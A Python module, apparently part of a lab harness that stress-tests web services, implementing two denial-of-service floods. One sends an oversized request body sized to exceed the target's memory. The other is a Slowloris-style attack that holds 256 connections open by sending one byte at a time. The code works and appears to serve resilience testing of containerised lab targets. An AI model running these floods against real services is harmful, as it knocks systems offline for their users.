"""Too much of a request: a body that has no end in sight, and many requests that come a byte at a time."""

from __future__ import annotations

import contextlib
import http.client
import secrets
import socket
import time
from collections.abc import Iterator
from typing import TYPE_CHECKING

from deadweight.checks.api import Prepared, prepare
from deadweight.engine.http import Answer, Route
from deadweight.suite.requests import HttpRequest
from deadweight_attacks.routes import BODY

if TYPE_CHECKING:
    from deadweight_attacks.containers import Yard
    from deadweight_attacks.lab import Lab
    from deadweight_attacks.model import Payload

CONNECTIONS = 256
"""More than the workers and threads that servers start with; within the hardened posture's open files."""
PIECE_BYTES = 2**20
BYTE_SECONDS = 0.5
HELD_SECONDS = 1.5
"""Before its end, so that what the service keeps of it can be seen."""
CLAIMED_BYTES = 10**6
BODIES = ("json", "form", BODY)
MOST_BODIES = 3


MARK = secrets.token_hex(8)
UNSENDABLE = "no request under checks.api goes to the service's own port: there is no route to send a large body to"


def requests(lab: Lab, payload: Payload) -> tuple[Prepared, ...]:
    """What is flooded: the first requests with a text in their bodies, a mark where that goes; one is enough for slow ones, and of
    those a request without a body will do. Where no request has such a body, a text in JSON is posted to the first routes: many
    servers read what they do not want."""
    by_route = {(each.request.method, each.request.path): each for each in reversed(lab.aims) if each.kind in BODIES}
    bodies = tuple(prepare(aim.at(MARK), lab.subject.suite.root) for aim in reversed(by_route.values()))
    if payload.flood == "large":
        return (bodies or tuple(_unwanted(lab)))[:MOST_BODIES]
    return bodies[:1] or (Prepared("GET", lab.variant.health.path, {}, None),)


def _unwanted(lab: Lab) -> Iterator[Prepared]:
    own = [item.request for item in lab.variant.checks.api if item.request.port is None]
    for path in dict.fromkeys(request.path.partition("?")[0] for request in own):
        yield prepare(HttpRequest(method="POST", path=path, json={"text": MARK}), lab.subject.suite.root)


def flood(
    lab: Lab, yard: Yard, payload: Payload, sent: Prepared, seconds: float
) -> Answer | OSError | http.client.HTTPException:
    """Send it; what kept it from being answered is given back, not raised. ``slow`` ends when its time is over."""
    try:
        if payload.flood == "slow":
            return _slow(yard.route, sent, seconds)
        size = lab.ground.memory_bytes * 13 // 10
        head, _, tail = (sent.body or b"").partition(MARK.encode())
        length = len(head) + size + len(tail)
        return yard.route.request(
            sent.method,
            sent.path,
            headers={**sent.headers, "Content-Length": str(length)},
            body=_pieces(head, size, tail),
            timeout=seconds,
        )
    except (OSError, http.client.HTTPException) as error:
        return error


def _pieces(head: bytes, size: int, tail: bytes) -> Iterator[bytes]:
    yield head
    for start in range(0, size, PIECE_BYTES):
        yield b"a" * min(PIECE_BYTES, size - start)
    time.sleep(HELD_SECONDS)
    yield tail


def _slow(route: Route, request: Prepared, seconds: float) -> Answer:
    """Open connections, and send a byte on each now and then. The answer says how many the service took."""
    started, held = time.monotonic(), list[socket.socket]()
    try:
        for _ in range(CONNECTIONS):
            with contextlib.suppress(OSError):
                connection = route.connected(BYTE_SECONDS)
                held.append(connection)
                connection.sendall(_begun(route, request))
        while time.monotonic() - started < seconds and held:
            time.sleep(BYTE_SECONDS)
            for connection in list(held):
                try:
                    connection.sendall(b"a")
                except OSError:
                    connection.close()
                    held.remove(connection)
        said = f"held {len(held)} of {CONNECTIONS} connections"
        return Answer(200, {}, said.encode(), time.monotonic() - started)
    finally:
        for connection in held:
            connection.close()


def _begun(route: Route, request: Prepared) -> bytes:
    """The first lines of a request, and the first bytes of its body, or of a header where it has none."""
    if request.body is None:
        return f"{request.method} {request.path} HTTP/1.1\r\nHost: {route.host}\r\nX-Slow: ".encode()
    kind = request.headers.get("Content-Type", "text/plain")
    head, _, _ = request.body.partition(MARK.encode())
    lines = f"{request.method} {request.path} HTTP/1.1\r\nHost: {route.host}\r\nContent-Type: {kind}\r\n"
    return f"{lines}Content-Length: {CLAIMED_BYTES}\r\n\r\n".encode() + head
